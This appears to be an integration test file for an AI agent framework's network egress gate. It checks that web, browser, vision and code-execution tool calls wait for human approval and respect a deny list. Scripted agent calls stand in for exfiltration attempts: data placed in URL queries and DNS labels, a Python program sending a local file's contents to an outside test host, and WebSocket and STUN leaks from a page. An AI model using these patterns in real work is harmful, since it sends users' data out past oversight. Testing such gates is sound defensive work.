// The tools that reach the network from the worker (web_extract, the browser, vision_analyze's image URLs,
// execute_code's calls of them) through the real worker in manual mode, against a host that is not this machine: a
// listener in a network namespace of its own (test/support/outside-host.ts). Nothing arrives there unasked; the
// network approval names the tool call (and the program that made it); approving lets it through; egress.deny holds
// for every tool; no name is resolved before its host is allowed (the gate's resolver is the test's: it records
// every name and answers with the outside host's address); `tether status` lists the hosts.
import { mkdtempSync, realpathSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { randomUUID } from 'node:crypto';
import type { WorkflowHandle } from '@temporalio/client';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseConfig } from '../src/config/config.js';
import type { AgentResult, AgentState } from '../src/common/types.js';
import type { PendingApproval } from '../src/common/approval-types.js';
import { findBrowser } from '../src/browser/find-browser.js';
import { egressGate } from '../src/environments/egress/gate.js';
import { harness, type Harness } from './support/agent-harness.js';
import { runCli, until } from './support/cli.js';
import { lastToolResults, startScriptedModel, type ChatRequest } from './support/scripted-model.js';
import { outsideHostUnavailable, startOutsideHost, type OutsideHost } from './support/outside-host.js';

const unavailable = outsideHostUnavailable();
const noBrowser =
  findBrowser(undefined) === undefined ? 'no Chromium on this machine (Debian package chromium)' : undefined;

let h: Harness;
let outside: OutsideHost;
/** Every name the egress gate resolved, in order. */
const resolved: string[] = [];
const VISION_ENV = ['OPENAI_BASE_URL', 'OPENAI_API_KEY', 'TETHER_VISION_MODEL'] as const;
const saved = Object.fromEntries(VISION_ENV.map((k) => [k, process.env[k]]));

beforeAll(async () => {
  if (unavailable) return;
  outside = await startOutsideHost();
  h = await harness(
    parseConfig({
      approvals: { mode: 'manual' },
      // Short: a fetch's time limit must not run while a person decides (the first test decides after it).
      web: { timeout_seconds: 2 },
      terminal: {
        backend: 'local',
        local: {
          sandbox: {
            egress: {
              allow: ['allowed.outside.test', { host: 'docs.outside.test', access: 'read', paths: ['/docs/'] }],
              deny: ['denied.outside.test'],
            },
          },
        },
      },
    }),
  );
  // Names under outside.test are the outside host (the denied one at an address of its own: the gate refuses an
  // address of a denied name too); nothing else resolves. No query leaves this process.
  egressGate().configure({
    resolver: async (name) => {
      resolved.push(name);
      if (name === 'denied.outside.test') return [outside.other];
      if (name.endsWith('.outside.test')) return [outside.address];
      throw Object.assign(new Error(`getaddrinfo ENOTFOUND ${name}`), { code: 'ENOTFOUND' });
    },
  });
}, 60_000);

afterAll(async () => {
  for (const k of VISION_ENV) {
    if (saved[k] === undefined) delete process.env[k];
    else process.env[k] = saved[k];
  }
  await h?.close();
  await outside?.close();
});

const cli = (args: string[]) =>
  runCli(args, { cwd: tmpdir(), env: { TEMPORAL_ADDRESS: h.address, TETHER_TASK_QUEUE: h.taskQueue } });
const project = (): string => realpathSync(mkdtempSync(join(tmpdir(), 'tether-tool-egress-')));
const state = (handle: WorkflowHandle): Promise<AgentState> => handle.query<AgentState>('state');
/** Requests the outside host got for a Host name (or its address). */
const arrived = (host: string): string[] => outside.requests.filter((r) => r.host === host).map((r) => r.url);

async function pendingNetwork(handle: WorkflowHandle, host: string): Promise<PendingApproval> {
  let found: PendingApproval | undefined;
  await until(
    `a pending network approval for ${host}`,
    async () => (found = (await state(handle)).pendingApprovals.find((p) => p.host === host)) !== undefined,
    60_000,
  );
  return found!;
}

function start(cwd: string, extra: Record<string, unknown> = {}): Promise<WorkflowHandle> {
  return h.client.workflow.start('agentWorkflow', {
    taskQueue: h.taskQueue,
    workflowId: `tool-egress-${randomUUID()}`,
    args: [{ task: 't', model: 'scripted', cwd, ...extra }],
  });
}

/** A step of the scripted model that waits until the test lets it go on. */
function held(): { step: () => Promise<{ content: string }>; release: () => void } {
  let release!: () => void;
  const gate = new Promise<void>((r) => (release = r));
  return { step: async () => (await gate, { content: 'done' }), release };
}

describe.skipIf(unavailable !== undefined)(
  `the worker's network tools against an outside host (${unavailable ?? 'a network namespace'})`,
  () => {
    it('web_extract of http://ADDRESS/?d=DATA waits for a person, naming the call; approving lets it through; status lists it', async () => {
      const url = `http://${outside.address}/?d=task-data-1234`;
      const model = await startScriptedModel([
        { toolCalls: [{ name: 'web_extract', arguments: { urls: [url] } }] },
        { content: 'done' },
      ]);
      await h.withWorker(model.url, async () => {
        const handle = await start(project());
        const p = await pendingNetwork(handle, outside.address);
        expect(p).toMatchObject({ kind: 'network', port: 80, command: `web_extract ${url}`, callId: 'call_1_1' });
        expect(p.findings[0]!.description).toBe(
          `network: ${outside.address}:80 (tool), not in terminal.local.sandbox.egress.allow; asked by the tool call above`,
        );
        expect((await state(handle)).currentToolCalls).toMatchObject([{ id: 'call_1_1', status: 'awaiting_approval' }]);
        expect(outside.requests).toEqual([]);
        // Longer than web.timeout_seconds: the fetch's clock does not run while a person is asked.
        await new Promise((r) => setTimeout(r, 3_000));
        // Every channel shows it as it shows a command's: here the CLI, which decides it too.
        await until(
          'tether approvals lists it',
          async () => (await cli(['approvals'])).stdout.includes(`${p.approvalId} · network`),
          30_000,
        );
        expect((await cli(['approvals'])).stdout).toContain(
          `  network: ${outside.address}:80\n  $ web_extract ${url}\n`,
        );
        expect((await cli(['approve', handle.workflowId, p.approvalId])).code).toBe(0);
        const result = (await handle.result()) as AgentResult;
        expect(result.status).toBe('completed');
        expect(result.network).toEqual([
          expect.objectContaining({ host: outside.address, port: 80, decision: 'allowed', count: 1 }),
        ]);
        expect((await cli(['status', handle.workflowId])).stdout).toMatch(
          new RegExp(
            `\\n  network:\\n    ${outside.address.replaceAll('.', '\\.')}:80  allowed \\(approved by a person \\(once\\)\\) · 1 connection\\(s\\)\\n`,
          ),
        );
      });
      const [r] = lastToolResults(model) as { results: { content?: string; error?: string }[] }[];
      expect(r!.results[0]!.content).toBe('hello from outside /?d=task-data-1234\n');
      expect(arrived(outside.address)).toEqual(['/?d=task-data-1234']);
      await model.close();
    }, 180_000);

    it('web_extract on a host allowed for reading under /docs/: a page there is read unasked; one elsewhere waits, shown as a GET, and, denied, never arrives', async () => {
      const inside = 'http://docs.outside.test/docs/a';
      const away = 'http://docs.outside.test/private?d=task-data-77';
      const model = await startScriptedModel([
        { toolCalls: [{ name: 'web_extract', arguments: { urls: [inside, away] } }] },
        { content: 'done' },
      ]);
      await h.withWorker(model.url, async () => {
        const handle = await start(project());
        const p = await pendingNetwork(handle, 'docs.outside.test');
        expect(p).toMatchObject({ kind: 'network', port: 80, command: `web_extract ${away}`, callId: 'call_1_1' });
        expect(p.findings[0]!.description).toBe(
          `network: GET ${away} (no content type, no body); no entry allows this read to docs.outside.test:80 at ` +
            'this path (egress.allow: docs.outside.test (read /docs/)); asked by the tool call above',
        );
        expect(p.scope?.covers).toContain('GET requests of this run');
        await until('the page under /docs/ arrived', async () => arrived('docs.outside.test').length === 1, 30_000);
        expect(arrived('docs.outside.test')).toEqual(['/docs/a']);
        await handle.signal('approval', { approvalId: p.approvalId, choice: 'deny', reason: 'not that page' });
        expect(((await handle.result()) as AgentResult).status).toBe('completed');
      });
      const [r] = lastToolResults(model) as { results: { content?: string; error?: string }[] }[];
      expect(r!.results[0]!.content).toBe('hello from outside /docs/a\n');
      expect(r!.results[1]!.error).toMatch(/refused to fetch .*denied by a person: not that page/);
      expect(arrived('docs.outside.test')).toEqual(['/docs/a']);
      await model.close();
    }, 180_000);

    it('a name carrying data is not looked up while its approval waits, nor after a denial; an approved one only then', async () => {
      const data = 'secret-5678.outside.test';
      const model = await startScriptedModel([
        {
          toolCalls: [
            { name: 'web_extract', arguments: { urls: [`http://${data}/`, 'http://ask.outside.test/later'] } },
          ],
        },
        { content: 'done' },
      ]);
      await h.withWorker(model.url, async () => {
        const handle = await start(project());
        const denied = await pendingNetwork(handle, data);
        const asked = await pendingNetwork(handle, 'ask.outside.test');
        expect(denied.command).toBe(`web_extract http://${data}/`);
        expect(resolved).not.toContain(data);
        expect(resolved).not.toContain('ask.outside.test');
        await handle.signal('approval', { approvalId: denied.approvalId, choice: 'deny', reason: 'no' });
        await until('the denial is recorded', async () => (await state(handle)).pendingApprovals.length === 1, 30_000);
        expect(resolved).not.toContain('ask.outside.test');
        await handle.signal('approval', { approvalId: asked.approvalId, choice: 'session' });
        await handle.result();
      });
      const [r] = lastToolResults(model) as { results: { content?: string; error?: string }[] }[];
      expect(r!.results[0]!.error).toMatch(
        /refused to fetch http:\/\/secret-5678\.outside\.test\/: denied by a person: no/,
      );
      expect(r!.results[1]!.content).toBe('hello from outside /later\n');
      expect(resolved).not.toContain(data);
      expect(resolved.filter((n) => n === 'ask.outside.test')).toHaveLength(1);
      expect(arrived(data)).toEqual([]);
      await model.close();
    }, 180_000);

    it('egress.deny holds for every tool: web_extract and its redirects, the browser and its redirects, vision URLs, execute_code', async (ctx) => {
      if (noBrowser) return ctx.skip(noBrowser);
      const cwd = project();
      const redirect = (to: string) => `http://allowed.outside.test/redirect?to=${encodeURIComponent(to)}`;
      const program = 'from tether_tools import web_extract\nprint(web_extract(urls=["http://denied.outside.test/e"]))';
      const model = await startScriptedModel(
        [
          {
            toolCalls: [
              {
                name: 'web_extract',
                arguments: { urls: ['http://denied.outside.test/a', redirect('http://DENIED.outside.test./b')] },
              },
            ],
          },
          { toolCalls: [{ name: 'browser_navigate', arguments: { url: 'http://denied.outside.test/c' } }] },
          { toolCalls: [{ name: 'browser_navigate', arguments: { url: redirect('http://denied.outside.test/d') } }] },
          {
            toolCalls: [
              {
                name: 'vision_analyze',
                arguments: { image: 'http://denied.outside.test/image.png', question: 'what?' },
              },
            ],
          },
          { toolCalls: [{ name: 'execute_code', arguments: { language: 'python', code: program } }] },
          { content: 'done' },
        ],
        { 'vision-scripted': { content: 'never asked' } },
      );
      Object.assign(process.env, {
        OPENAI_BASE_URL: model.url,
        OPENAI_API_KEY: 'k',
        TETHER_VISION_MODEL: 'vision-scripted',
      });
      await h.withWorker(model.url, async () => {
        const handle = await start(cwd);
        const result = (await handle.result()) as AgentResult;
        expect(result.status).toBe('completed');
        expect((await state(handle)).approvals.decided).toEqual([]);
        expect(result.network).toEqual(
          expect.arrayContaining([
            expect.objectContaining({
              host: 'denied.outside.test',
              decision: 'refused',
              by: 'egress.deny: denied.outside.test',
            }),
          ]),
        );
        expect((await cli(['status', handle.workflowId])).stdout).toMatch(
          /    denied\.outside\.test:80  refused \(egress\.deny: denied\.outside\.test\) · \d+ connection\(s\)/,
        );
      });
      const [extract, navigate, navigateRedirect, vision, code] = lastToolResults(model) as Record<string, unknown>[];
      const pages = (extract as { results: { error?: string }[] }).results;
      for (const p of pages)
        expect(p.error).toMatch(/denied\.outside\.test:80 is in terminal\.local\.sandbox\.egress\.deny/);
      expect(navigate!.error).toMatch(/refused to open http:\/\/denied\.outside\.test\/c: .*egress\.deny/);
      expect(JSON.stringify(navigateRedirect)).toMatch(
        /denied\.outside\.test:80 is in terminal\.local\.sandbox\.egress\.deny/,
      );
      expect(vision!.error).toMatch(/denied\.outside\.test:80 is in terminal\.local\.sandbox\.egress\.deny/);
      expect(String(code!.output)).toMatch(/denied\.outside\.test:80 is in terminal\.local\.sandbox\.egress\.deny/);
      expect(arrived('denied.outside.test')).toEqual([]);
      // (The gate looks deny names up itself, to know their addresses when an address is asked for: the person's names.)
      await model.close();
    }, 240_000);

    it("the browser: a page's requests elsewhere (image, websocket) wait for a person; no UDP leaves; approving loads the image", async (ctx) => {
      if (noBrowser) return ctx.skip(noBrowser);
      const html =
        '<h1>outside page</h1><img src="http://img.outside.test/image.png">' +
        '<script>try { new WebSocket("ws://ws.outside.test/socket"); } catch (e) {}' +
        `const pc = new RTCPeerConnection({ iceServers: [{ urls: "stun:${outside.address}:3478" }] });` +
        'pc.createDataChannel("x"); pc.createOffer().then((o) => pc.setLocalDescription(o));</script>';
      const url = `http://allowed.outside.test/page?html=${encodeURIComponent(html)}`;
      const wait = held();
      const model = await startScriptedModel([
        { toolCalls: [{ name: 'browser_navigate', arguments: { url } }] },
        wait.step,
      ]);
      await h.withWorker(model.url, async () => {
        const handle = await start(project());
        const img = await pendingNetwork(handle, 'img.outside.test');
        const ws = await pendingNetwork(handle, 'ws.outside.test');
        // The call, (once the page has its address, the page), then the host the page asked for.
        expect(img.command).toMatch(
          /^browser_navigate http:\/\/allowed\.outside\.test\/page\?html=.*: img\.outside\.test:80$/s,
        );
        expect(img.callId).toBe('call_1_1');
        expect(ws.findings[0]!.description).toMatch(/^network: ws\.outside\.test:80 \(tool\)/);
        expect(arrived('img.outside.test')).toEqual([]);
        expect(arrived('ws.outside.test')).toEqual([]);
        expect(resolved).not.toContain('img.outside.test');
        expect(resolved).not.toContain('ws.outside.test');
        await handle.signal('approval', { approvalId: ws.approvalId, choice: 'deny' });
        await handle.signal('approval', { approvalId: img.approvalId, choice: 'once' });
        await until('the image arrives once approved', () => arrived('img.outside.test').length > 0, 30_000);
        // A second for ICE to have tried its STUN server, had it been let.
        await new Promise((r) => setTimeout(r, 1_000));
        wait.release();
        await handle.result();
      });
      expect(arrived('allowed.outside.test')).toContain(new URL(url).pathname + new URL(url).search);
      expect(arrived('img.outside.test')).toEqual(['/image.png']);
      expect(outside.requests.filter((r) => r.upgrade)).toEqual([]);
      expect(outside.datagrams).toBe(0);
      await model.close();
    }, 240_000);

    it('the browser: a redirect to a host nobody allowed holds the navigation until a person decides, then goes on', async (ctx) => {
      if (noBrowser) return ctx.skip(noBrowser);
      const url = `http://allowed.outside.test/redirect?to=${encodeURIComponent('http://ask3.outside.test/landing')}`;
      const model = await startScriptedModel([
        { toolCalls: [{ name: 'browser_navigate', arguments: { url } }] },
        { content: 'done' },
      ]);
      await h.withWorker(model.url, async () => {
        const handle = await start(project());
        const p = await pendingNetwork(handle, 'ask3.outside.test');
        expect(p.command).toMatch(
          /^browser_navigate http:\/\/allowed\.outside\.test\/redirect\?to=.*: ask3\.outside\.test:80$/,
        );
        expect(arrived('ask3.outside.test')).toEqual([]);
        expect(resolved).not.toContain('ask3.outside.test');
        await handle.signal('approval', { approvalId: p.approvalId, choice: 'once' });
        await handle.result();
      });
      const [nav] = lastToolResults(model) as { url?: string; snapshot?: string; error?: string }[];
      expect(nav!.url).toBe('http://ask3.outside.test/landing');
      expect(nav!.snapshot).toContain('hello from outside /landing');
      // The page and what it asks of the same host during the call (its favicon): `once` covers the call.
      expect(arrived('ask3.outside.test')).toContain('/landing');
      await model.close();
    }, 180_000);

    it('vision_analyze of an image URL: tether fetches it through the policy, and the model gets a data URL, never the URL', async () => {
      let seen: ChatRequest | undefined;
      const model = await startScriptedModel(
        [
          {
            toolCalls: [
              {
                name: 'vision_analyze',
                arguments: { image: 'http://allowed.outside.test/image.png', question: 'What colour?' },
              },
            ],
          },
          { content: 'done' },
        ],
        {
          'vision-scripted': (req) => {
            seen = req;
            return { content: 'red' };
          },
        },
      );
      Object.assign(process.env, {
        OPENAI_BASE_URL: model.url,
        OPENAI_API_KEY: 'k',
        TETHER_VISION_MODEL: 'vision-scripted',
      });
      await h.withWorker(model.url, async () => {
        await (await start(project(), { enabledToolsets: ['vision_tools'] })).result();
      });
      const parts = seen!.messages[0]!.content as unknown as { type: string; image_url?: { url: string } }[];
      expect(parts[1]!.image_url!.url).toMatch(/^data:image\/png;base64,iVBORw0KGgo/);
      expect(JSON.stringify(seen)).not.toMatch(/outside\.test|image\.png/);
      expect(JSON.stringify(lastToolResults(model)[0])).toContain('red');
      expect(arrived('allowed.outside.test')).toContain('/image.png');
      await model.close();
    }, 180_000);

    it('execute_code calling web_extract asks the same way, naming the program and its call; a program looping over hosts gets each refused, unresolved', async () => {
      const cwd = project();
      writeFileSync(join(cwd, 'notes.txt'), 'task-data-9876');
      const program = [
        'from tether_tools import web_extract',
        'data = open("notes.txt").read().strip()',
        'print(web_extract(urls=["http://ask2.outside.test/?d=" + data])["results"][0].get("content"))',
      ].join('\n');
      const loop = [
        'from tether_tools import web_extract',
        'for i in range(3):',
        '    print(web_extract(urls=[f"http://loop{i}-data.outside.test/"])["results"][0].get("error"))',
      ].join('\n');
      const model = await startScriptedModel([
        { toolCalls: [{ name: 'execute_code', arguments: { language: 'python', code: program } }] },
        { toolCalls: [{ name: 'execute_code', arguments: { language: 'python', code: loop } }] },
        { content: 'done' },
      ]);
      await h.withWorker(model.url, async () => {
        const handle = await start(cwd, { approvalTimeoutSeconds: 2 });
        const p = await pendingNetwork(handle, 'ask2.outside.test');
        expect(p.command).toBe(
          `web_extract http://ask2.outside.test/?d=task-data-9876\n(a tool request of the execute_code program below)\npython program:\n${program}`,
        );
        expect(p.callId).toBe('call_1_1');
        expect(arrived('ask2.outside.test')).toEqual([]);
        expect(resolved).not.toContain('ask2.outside.test');
        await handle.signal('approval', { approvalId: p.approvalId, choice: 'once' });
        const result = (await handle.result()) as AgentResult;
        expect(result.status).toBe('completed');
        const decided = (await state(handle)).approvals.decided;
        expect(decided.map((d) => [d.host, d.choice, d.source])).toEqual([
          ['ask2.outside.test', 'once', 'person'],
          ['loop0-data.outside.test', 'deny', 'timeout'],
          ['loop1-data.outside.test', 'deny', 'timeout'],
          ['loop2-data.outside.test', 'deny', 'timeout'],
        ]);
      });
      const [first, second] = lastToolResults(model) as { output: string; tool_calls: number }[];
      expect(first!.output).toBe('hello from outside /?d=task-data-9876\n\n');
      expect(second!.output.trim().split('\n')).toEqual(
        [0, 1, 2].map(
          (i) =>
            `refused to fetch http://loop${i}-data.outside.test/: no one approved loop${i}-data.outside.test:80 within 2 s (a timeout counts as a denial)`,
        ),
      );
      for (const i of [0, 1, 2]) {
        expect(resolved).not.toContain(`loop${i}-data.outside.test`);
        expect(arrived(`loop${i}-data.outside.test`)).toEqual([]);
      }
      await model.close();
    }, 240_000);
  },
);
